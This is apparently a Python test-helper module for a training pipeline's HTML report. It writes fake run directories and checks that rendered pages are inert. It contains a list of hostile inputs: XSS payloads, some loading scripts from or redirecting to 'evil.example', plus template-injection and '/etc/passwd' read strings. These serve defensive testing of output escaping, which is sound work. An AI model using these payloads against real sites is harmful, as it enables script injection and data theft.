"""Run directories for the report, and what their pages hold."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from pipeline.report import write

PARENTS: dict[str, dict[str, str]] = {
    "words": {},
    "base": {"tokenizer": "words"},
    "sft": {"policy": "base"},
    "judge": {"policy": "sft"},
    "ppo": {"policy": "sft", "reward": "judge"},
    "check": {"models.0": "base", "models.1": "sft", "models.2": "ppo", "reward": "judge"},
}
KINDS = {
    "words": ("tokenizer", "tokenizer"),
    "base": ("pretrain", "model"),
    "sft": ("sft", "adapter"),
    "judge": ("reward", "reward"),
    "ppo": ("ppo", "adapter"),
    "check": ("evaluate", "evaluation"),
}
HOSTILE = [
    "<script>alert(1)</script>",
    "</style><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src="javascript:alert(1)">',
    "'><a href='javascript:alert(1)'>x</a>",
    "</pre></p></title><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<style>@import url(http://evil.example)</style>",
    '" onmouseover="alert(1)" style="x',
    "{{ 7 * 7 }} {% raw %} {# #}",
    "]]><!-- -->",
    "&lt;script&gt;",
    "safe \u202etxet desrever\u202c \u2066x\u2069",
    "bell \x07 null \x00 escape \x1b[31m",
    "zero\u200bwidth \ufeff soft\u00adhyphen line\u2028separator",
    "lone \ud800 surrogate",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\x0c>alert(1)</script\t>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "</textarea></title></svg><script>alert(1)</script>",
    "<body onload=alert(1)><details open ontoggle=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object><embed src=x>",
    "<form action='javascript:alert(1)'><button formaction=javascript:alert(1)>",
    "<base href='javascript:/a/'><link rel=stylesheet href=//evil.example/x.css>",
    "javascript:alert(1) JaVaScRiPt&colon;alert(1)",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&#60;script&#62;alert(1)&#60;/script&#62; &lt",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "$\\frac{$ \\input{/etc/passwd} ${7*7} #{7*7} <%= 7*7 %>",
]


def digest(text: str) -> str:
    """As a content digest looks."""
    return hashlib.sha256(text.encode()).hexdigest()


def metric(value: float, reach: float = 0.02, n: int = 100) -> dict[str, Any]:
    """A figure with its interval, as files hold it."""
    return {"value": value, "low": value - reach, "high": value + reach, "n": n}


def manifest(name: str, **changes: Any) -> dict[str, Any]:
    """The manifest of one of the stages."""
    stage_kind, kind = KINDS[name]
    inputs = {
        role: {"source": parent, "kind": KINDS[parent][1], "digest": digest(parent)}
        for role, parent in PARENTS[name].items()
    }
    card = {
        "role": "data",
        "source": "pairs.jsonl",
        "digest": digest("rows"),
        "format": "preference",
        "rows": 90,
    }
    return {
        **{"stage": name, "stage_kind": stage_kind, "kind": kind, "key": digest(f"key {name}")},
        **{"digest": digest(name), "inputs": inputs, "settings": {}, "data_settings": {}, "outputs": []},
        **{"data": [card | {"dropped": {"identical responses": 7}}], "adaptation": None, "tokenizer": {}},
        **{"metrics": {}, "cost": {"seconds": 61.0, "tokens": 1_000, "peak_memory_bytes": 2**20}},
        **{"environment": {"python": "3.11.9", "device": "cpu"}, "seed": 0, "warnings": []},
        **{"command": f"baton run c.yaml --only {name}", "started": "2026-01-01T00:00:00+00:00"},
        **changes,
    }


def evaluation() -> dict[str, Any]:
    """Three models, each better than its parent."""
    sft = {"gold": metric(0.5), "gold_gain": metric(0.4), "reward": metric(0.1), "win_rate.gold": metric(0.9)}
    ppo = {
        "gold": metric(0.7),
        "gold_gain": metric(0.2),
        "reward": metric(1.2),
        "reward_gain": metric(1.1),
    }
    models = {
        "base": {"parent": None, "metrics": {"gold": metric(0.1), "accuracy.sums": metric(0.25)}},
        "sft": {"parent": "base", "metrics": sft},
        "ppo": {"parent": "sft", "metrics": ppo},
    }
    return {"models": models, "gold": "world", "judges": {"gold": "the rule world"}}


def sample(number: int, text: str = "It is four.") -> dict[str, Any]:
    """A prompt with two answers."""
    return {
        "prompt": [{"role": "user", "content": f"Question {number}: what is 2 + 2?"}],
        "responses": {"sft": "four", "ppo": text},
        **{"gold": {"sft": 0.5, "ppo": 1.0}, "reward": {"ppo": -0.25}, "answer": "4"},
    }


def write_lines(path: Path, records: list[Any]) -> None:
    """A file of one record a line."""
    path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")


def write_stage(run: Path, name: str, **changes: Any) -> Path:
    """The directory of a finished stage with its manifest."""
    directory = run / "stages" / changes.get("stage", name)
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "manifest.json").write_text(json.dumps(manifest(name, **changes)), encoding="utf-8")
    return directory


def write_run(root: Path) -> Path:
    """A finished six-stage run with curves, an evaluation and eight samples; returns its directory."""
    directories = {name: write_stage(root, name) for name in PARENTS}
    steps = [{"step": step, "total": 9, "seconds": step, "loss": 3 / step} for step in range(1, 10)]
    write_lines(directories["sft"] / "metrics.jsonl", steps)
    write_lines(directories["ppo"] / "metrics.jsonl", [{**step, "reward": step["step"], "kl": 0.1} for step in steps])
    (directories["check"] / "evaluation.json").write_text(json.dumps(evaluation()))
    write_lines(directories["check"] / "samples.jsonl", [sample(number) for number in range(8)])
    (root / "config.yaml").write_text("output: runs/my first\nstages: {}\n")
    return root


def add_evaluation(run: Path, name: str, evaluation: Mapping[str, Any]) -> None:
    """Another finished evaluation of the run, after all other stages."""
    inputs = {
        f"models.{place}": {"source": model, "kind": KINDS[model][1], "digest": digest(model)}
        for place, model in enumerate(evaluation["models"])
    }
    directory = write_stage(run, "check", inputs=inputs, stage=name)
    (directory / "evaluation.json").write_text(json.dumps(evaluation))


def page(run: Path) -> str:
    """The page of a run, made anew."""
    return write(run).read_text(encoding="utf-8")


def report(run: Path) -> Any:
    """The report of a run for programs, made anew."""
    write(run)
    return json.loads((run / "report.json").read_bytes())


class Elements(HTMLParser):
    """Every element with its attributes, the text between them, and whether all that opened was closed."""

    VOID = frozenset({"meta", "br", "hr", "img", "link", "input"})

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, Mapping[str, str | None]]] = []
        self.text = ""
        self.open: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open[-1:] != ["style"]:
            self.text += data


def assert_inert(page: str) -> None:
    """Nothing on the page runs, loads, hides or reorders anything."""
    parsed = Elements(page)
    assert parsed.open == []
    refused = {"script", "iframe", "object", "embed", "base", "form", "link", "img", "a", "image"}
    assert not refused & {tag for tag, _ in parsed.elements}
    for _, attributes in parsed.elements:
        assert not [name for name in attributes if name.startswith("on") or name in {"style", "src", "action"}]
        assert all((value or "").startswith("#") for name, value in attributes.items() if "href" in name)
    assert "javascript:" not in "".join(value or "" for _, each in parsed.elements for value in each.values())
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\u00ad]", page)
